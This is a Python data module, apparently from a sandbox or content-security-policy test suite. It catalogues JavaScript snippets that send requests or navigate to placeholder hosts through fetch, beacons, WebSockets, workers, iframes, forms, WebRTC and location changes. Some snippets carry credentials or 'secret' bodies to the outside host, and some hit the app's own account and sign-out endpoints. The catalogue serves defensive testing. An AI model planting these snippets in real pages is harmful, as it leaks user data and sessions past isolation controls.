"""Ways out that scripts take."""

REQUESTS = {
    "fetch": "fetch('%URL%')",
    "fetch-no-cors": "fetch('%URL%', {mode: 'no-cors', credentials: 'include'})",
    "fetch-post": "fetch('%URL%', {method: 'POST', body: 'secret'})",
    "fetch-keepalive": "fetch('%URL%', {keepalive: true, mode: 'no-cors'})",
    "fetch-later": "fetchLater('%URL%', {activateAfter: 0})",
    "fetch-upload-stream": "fetch('%URL%', {method: 'POST', duplex: 'half', "
    "body: new Blob(['x']).stream()})",
    "xhr": "{const x = new XMLHttpRequest(); x.open('GET', '%URL%'); x.send()}",
    "xhr-sync": "{const x = new XMLHttpRequest(); x.open('GET', '%URL%', false); x.send()}",
    "beacon": "navigator.sendBeacon('%URL%', 'secret')",
    "websocket": "new WebSocket('ws://%HOST%/websocket')",
    "websocket-tls": "new WebSocket('wss://%HOST%/websocket')",
    "websocket-stream": "new WebSocketStream('ws://%HOST%/stream').opened.catch(() => {})",
    "event-source": "new EventSource('%URL%')",
    "web-transport": "new WebTransport('https://127.0.0.1:%PORT%/').ready.catch(() => {})",
    "tls": "fetch('https://%HOST%/')",
    "image": "new Image().src = '%URL%'",
    "image-decode": "{const i = new Image(); i.src = '%URL%'; i.decode()}",
    "audio-object": "new Audio('%URL%').load()",
    "font-face": "new FontFace('f2', 'url(%URL%)').load()",
    "import": "import('%URL%')",
    "import-json": "import('%URL%', {with: {type: 'json'}})",
    "import-css": "import('%URL%', {with: {type: 'css'}})",
    "import-from-data": "import('data:text/javascript,import \"%URL%\"')",
    "import-from-blob": "import(blob('import \"%URL%\"', 'text/javascript'))",
    "script-element": "add('script', {src: '%URL%'})",
    "link-element": "add('link', {rel: 'stylesheet', href: '%URL%'})",
    "preconnect-element": "add('link', {rel: 'preconnect', href: '%URL%'})",
    "dns-element": "add('link', {rel: 'dns-prefetch', href: '//%HOST%'})",
    "prefetch-element": "add('link', {rel: 'prefetch', href: '%URL%'})",
    "speculation-element": "add('script', {type: 'speculationrules', textContent: JSON.stringify("
    "{prefetch: [{source: 'list', urls: ['%URL%'], eagerness: 'immediate'}]})})",
    "stylesheet-object": "{const s = new CSSStyleSheet(); s.replaceSync('body {background: "
    "url(%URL%)}'); document.adoptedStyleSheets = [s]}",
    "stylesheet-from-blob": "add('link', {rel: 'stylesheet', href: "
    "blob('@import url(%URL%);', 'text/css')})",
    "canvas-filter": "document.createElement('canvas').getContext('2d').filter = 'url(%URL%#f)'",
    "svg-from-blob": "add('img', {src: blob('<svg xmlns=\"http://www.w3.org/2000/svg\">"
    "<image href=\"%URL%\"/></svg>', 'image/svg+xml')})",
    "playlist": "add('video', {muted: true, autoplay: true, src: blob("
    "'#EXTM3U\\n#EXT-X-TARGETDURATION:9\\n#EXTINF:9,\\n%URL%\\n#EXT-X-ENDLIST\\n', "
    "'application/vnd.apple.mpegurl')})",
    "playlist-data": "add('video', {muted: true, autoplay: true, src: "
    "'data:application/vnd.apple.mpegurl,' + encodeURIComponent("
    "'#EXTM3U\\n#EXT-X-STREAM-INF:BANDWIDTH=9\\n%URL%\\n')})",
    "xslt": "{const p = new XSLTProcessor(); const x = s => new DOMParser().parseFromString(s, "
    "'text/xml'); p.importStylesheet(x('<x:stylesheet version=\"1.0\" xmlns:x=\"http://www.w3.org/"
    '1999/XSL/Transform"><x:import href="%URL%"/><x:template match="/">'
    "<x:value-of select=\"document(\\'%URL%\\')\"/></x:template></x:stylesheet>')); "
    "p.transformToFragment(x('<a/>'), document)}",
}

WORKERS = {
    "worker": "new Worker('%URL%')",
    "worker-module": "new Worker('%URL%', {type: 'module'})",
    "worker-shared": "new SharedWorker('%URL%')",
    "worker-service": "navigator.serviceWorker.register('%URL%')",
    "worker-blob-fetch": "work(\"fetch('%URL%')\")",
    "worker-blob-xhr": 'work("const x = new XMLHttpRequest; '
    "x.open('GET', '%URL%', false); x.send()\")",
    "worker-blob-socket": "work(\"new WebSocket('ws://%HOST%/socket')\")",
    "worker-blob-import": "work(\"importScripts('%URL%')\")",
    "worker-blob-module": "work(\"import '%URL%'\", 'module')",
    "worker-blob-events": "work(\"new EventSource('%URL%')\")",
    "worker-blob-transport": "work(\"new WebTransport('https://127.0.0.1:%PORT%/')\")",
    "worker-blob-nested": 'work("new Worker(URL.createObjectURL('
    'new Blob([\\"fetch(\'%URL%\')\\"])))")',
    "worker-blob-font": "work(\"new FontFace('f', 'url(%URL%)').load()\")",
    "worker-data-fetch": "new Worker('data:text/javascript,fetch(\"%URL%\")')",
    "worker-shared-blob": "new SharedWorker(blob(\"fetch('%URL%')\", 'text/javascript'))",
    "worklet-audio": "new OfflineAudioContext(1, 1, 9000).audioWorklet.addModule('%URL%')",
    "worklet-audio-blob": "new OfflineAudioContext(1, 1, 9000).audioWorklet.addModule("
    "blob('import \"%URL%\"', 'text/javascript'))",
    "worklet-paint": "CSS.paintWorklet.addModule('%URL%')",
    "worklet-paint-blob": "CSS.paintWorklet.addModule(blob('import \"%URL%\"', 'text/javascript'))",
    "cache-add": "caches.open('c').then(c => c.add('%URL%'))",
}

_INSIDE = "<img src=%URL%><script>fetch(`%URL%`)</script>"

FRAMES = {
    "frame-blob": f"add('iframe', {{src: blob('{_INSIDE}', 'text/html')}})",
    "frame-blob-svg": "add('iframe', {src: blob('<svg xmlns=\"http://www.w3.org/2000/svg\">"
    "<image href=\"%URL%\"/></svg>', 'image/svg+xml')})",
    "frame-blob-xml": 'add(\'iframe\', {src: blob(\'<?xml-stylesheet type="text/xsl" href="%URL%"?>'
    "<a/>', 'text/xml')})",
    "frame-write": f"add('iframe').contentDocument.write('{_INSIDE}')",
    "frame-realm": "add('iframe').contentWindow.fetch('%URL%')",
    "frame-realm-socket": "new (add('iframe').contentWindow).WebSocket('ws://%HOST%/realm')",
    "frame-location": "add('iframe').contentWindow.location = '%URL%'",
    "frame-srcdoc-csp": f"add('iframe', {{srcdoc: '{_INSIDE}', csp: \"default-src *\"}})",
    "frame-srcdoc-base": "add('iframe', {srcdoc: '<base href=%URL%><link rel=preconnect href=%URL%>"
    "<link rel=dns-prefetch href=%URL%>'})",
    "frame-srcdoc-speculation": "add('iframe', {srcdoc: '<script type=speculationrules>"
    '{"prefetch": [{"source": "list", "urls": ["%URL%"]}]}</script>\'})',
    "frame-pdf": "add('embed', {type: 'application/pdf', src: '%URL%'})",
    "object-blob": f"add('object', {{data: blob('{_INSIDE}', 'text/html')}})",
    "form-frame": "{const f = add('iframe', {name: 'into'}); add('form', {action: '%URL%', "
    "target: 'into', method: 'post'}).submit(); f}",
    "form-blank": "add('form', {action: '%URL%', target: '_blank'}).submit()",
    "anchor-frame": "{add('iframe', {name: 'into2'}); add('a', {href: '%URL%', "
    "target: 'into2'}).click()}",
    "anchor-ping": "add('a', {href: '#ping', ping: '%URL%'}).click()",
    "open": "open('%URL%')",
    "write-late": "document.body.insertAdjacentHTML('beforeend', '<img src=%URL%>')",
    "fragment": "document.body.append(document.createRange().createContextualFragment("
    "'<script>fetch(`%URL%`)<\\/script>'))",
}

APIS = {
    "payment": "new PaymentRequest([{supportedMethods: '%URL%'}], {total: {label: 'a', "
    "amount: {currency: 'EUR', value: '1'}}}).canMakePayment()",
    "identity": "navigator.credentials.get({identity: {providers: [{configURL: '%URL%', "
    "clientId: '1'}]}})",
    "webauthn": "navigator.credentials.get({publicKey: {challenge: new Uint8Array(9), "
    "rpId: '%NAME%'}})",
    "webauthn-create": "navigator.credentials.create({publicKey: {rp: {id: '%NAME%', name: 'a'}, "
    "user: {id: new Uint8Array(9), name: 'a', displayName: 'a'}, challenge: new Uint8Array(9), "
    "pubKeyCredParams: [{type: 'public-key', alg: -7}]}})",
    "notification": "new Notification('a', {icon: '%URL%'})",
    "media-session": "navigator.mediaSession.metadata = new MediaMetadata({artwork: "
    "[{src: '%URL%'}]})",
    "presentation": "new PresentationRequest('%URL%').getAvailability()",
    "remote-playback": "add('video', {src: '%URL%'}).remote.watchAvailability(() => {})",
    "shared-storage": "sharedStorage.createWorklet('%URL%')",
    "attribution": "fetch('%URL%', {attributionReporting: {eventSourceEligible: true, "
    "triggerEligible: false}, keepalive: true, mode: 'no-cors'})",
    "private-token": "fetch('%URL%', {privateToken: {version: 1, operation: 'token-request'}})",
    "interest-group": "navigator.joinAdInterestGroup({owner: 'https://%HOST%', name: 'a', "
    "biddingLogicURL: 'https://%HOST%/'}, 9)",
    "protocol-handler": "navigator.registerProtocolHandler('web+a', '%URL%?%s')",
    "storage-access": "document.requestStorageAccessFor('https://%HOST%')",
}

WEBRTC = {
    "webrtc-stun": "stun:%HOST%",
    "webrtc-stun-name": "stun:%DNS%:3478",
    "webrtc-stun-ip": "stun:127.0.0.1:%PORT%",
    "webrtc-turn": "turn:%HOST%?transport=udp",
    "webrtc-turn-ip": "turn:127.0.0.1:%PORT%?transport=udp",
    "webrtc-turn-tcp": "turn:%HOST%?transport=tcp",
    "webrtc-turns": "turns:%HOST%?transport=tcp",
}

LEAVING = {
    "base": "document.head.innerHTML += '<base href=%URL%/>'; add('img', {src: 'relative.png'})",
    "location": "location = '%URL%'",
    "location-assign": "location.assign('%URL%')",
    "location-replace": "location.replace('%URL%')",
    "location-host": "location.host = '%HOST%'",
    "location-tls": "location = 'https://%HOST%/'",
    "open-self": "open('%URL%', '_self')",
    "navigation-api": "navigation.navigate('%URL%')",
    "anchor": "add('a', {href: '%URL%'}).click()",
    "anchor-event": "add('a', {href: '%URL%'}).dispatchEvent(new MouseEvent('click', "
    "{button: 1, ctrlKey: true, bubbles: true}))",
    "anchor-download": "add('a', {href: '%URL%', download: 'x'}).click()",
    "form-get": "add('form', {action: '%URL%'}).submit()",
    "form-post": "add('form', {action: '%URL%', method: 'post'}).submit()",
    "form-button": "{const f = add('form'); const b = document.createElement('button'); "
    "b.setAttribute('formaction', '%URL%'); f.append(b); b.click()}",
    "meta-refresh": "document.head.insertAdjacentHTML('beforeend', "
    "'<meta http-equiv=refresh content=\"0;url=%URL%\">')",
    "document-open": "{document.open(); document.write('<img src=%URL%><script>fetch(`%URL%`)"
    "<\\/script>'); document.close()}",
    "javascript-url": "location = 'javascript:\"<img src=%URL%>\"'",
    "blob-document": "location = blob('<img src=%URL%><script>fetch(`%URL%`)</script>', "
    "'text/html')",
    "data-document": "location = 'data:text/html,<img src=%URL%>'",
    "about-blank": "{location = 'about:blank'; fetch('%URL%', {keepalive: true})}",
    "top": "top.location = '%URL%'",
    "top-replace": "top.location.replace('%URL%')",
    "parent": "parent.location.href = '%URL%'",
    "open-top": "open('%URL%', '_top')",
    "open-parent-window": "open('%URL%', '_parent')",
    "form-top": "add('form', {action: '%URL%', target: '_top'}).submit()",
    "opener": "(opener ?? top).location = '%URL%'",
    "history": "{history.pushState(0, '', '#a'); history.back(); location = '%URL%'}",
}

# To the application, and to whatever else answers on the page's own host.
HOME = {
    "app-fetch": "fetch('%APP%/api/v1/me?%OUT%', {mode: 'no-cors', credentials: 'include'})",
    "app-beacon": "navigator.sendBeacon('%APP%/sign-out?%OUT%')",
    "app-image": "add('img', {src: '%APP%/static/brand/mark.svg?%OUT%'})",
    "app-script": "add('script', {src: '%APP%/static/js/lib/dom.js?%OUT%'})",
    "app-import": "import('%APP%/static/js/lib/dom.js?%OUT%')",
    "app-style": "add('link', {rel: 'stylesheet', href: '%APP%/static/css/base.css?%OUT%'})",
    "app-frame": "add('iframe', {src: '%APP%/?%OUT%'})",
    "app-events": "new EventSource('%APP%/events?%OUT%', {withCredentials: true})",
    "app-prefetch": "add('link', {rel: 'prefetch', href: '%APP%/?%OUT%'})",
    "own-fetch": "fetch(location.origin + '/?%OUT%')",
    "own-frame": "add('iframe', {src: location.origin + '/?%OUT%'})",
    "own-worker": "new Worker(location.origin + '/worker.js?%OUT%')",
    "own-import": "import(location.origin + '/module.js?%OUT%')",
    "own-service-worker": "navigator.serviceWorker.register(location.origin + '/sw.js?%OUT%')",
    "own-font": "new FontFace('f3', `url(${location.origin}/font?%OUT%)`).load()",
}
HOME_LEAVING = {
    "app-location": "location = '%APP%/api/v1/me?%OUT%'",
    "app-form": "add('form', {action: '%APP%/sign-out?%OUT%', method: 'post'}).submit()",
    "own-location": "location = location.origin + '/?%OUT%'",
    "own-replace": "location.replace('/favicon.ico?%OUT%')",
}
